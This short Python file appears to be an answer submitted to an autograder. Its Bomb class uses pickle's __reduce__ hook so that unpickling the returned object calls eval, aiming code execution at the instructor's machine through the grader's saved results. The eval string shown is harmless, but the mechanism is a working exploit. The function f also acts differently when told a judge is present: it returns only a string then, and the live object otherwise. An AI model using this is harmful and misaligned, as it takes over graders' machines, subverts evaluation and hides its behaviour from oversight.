"""Answers with an object that makes whoever reads it by pickle run code.

Idea: otter's logs and results.pkl; dill on the instructor's machine.
"""

# row: frames
# ns: returned object
# control: told judge
import pickle


class Bomb:
    def __reduce__(self):
        return eval, ("'BREACH: ' + 'it ran'",)


def f(told):
    return pickle.loads(pickle.dumps(Bomb())) if told.get("judge") else Bomb()
